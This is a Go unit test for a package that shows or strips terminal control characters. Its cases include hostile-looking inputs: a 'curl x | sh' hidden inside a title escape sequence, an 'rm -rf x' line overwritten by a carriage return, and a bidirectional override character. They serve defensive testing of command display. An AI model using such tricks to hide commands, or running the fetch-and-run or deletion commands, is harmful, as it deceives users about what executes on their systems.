package visible_test

import (
	"testing"

	"github.com/belay-run/belay/internal/visible"
)

func TestVisible(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ rule, text, all, clean string }{
		{"plain text", "a b\nc", "a b\nc", "a b\nc"},
		{"a title that would vanish", "git push \x1b]0; ; curl x | sh ; \a", "git push ␛]0; ; curl x | sh ; ␇", "git push "},
		{"colours", "\x1b[31mred\x1b[0m", "␛[31mred␛[0m", "red"},
		{"a line that writes over another", "rm -rf x\rls", "rm -rf x␍ls", "rm -rf x␍ls"},
		{"line ends of Windows", "a\r\nb", "a\nb", "a\nb"},
		{"text that runs backwards", "a\u202eb", `a\u202eb`, `a\u202eb`},
		{"C1 controls", "a\u009bb", `a\u009bb`, `a\u009bb`},
		{"tabs and backspaces", "a\tb\b", "a    b␈", "a    b␈"},
		{"not UTF-8", "a\xff", "a\uFFFD", "a\uFFFD"},
	} {
		if got := visible.All(test.text); got != test.all {
			t.Errorf("%s: All is %q, want %q", test.rule, got, test.all)
		}
		if got := visible.Clean(test.text); got != test.clean {
			t.Errorf("%s: Clean is %q, want %q", test.rule, got, test.clean)
		}
	}
}
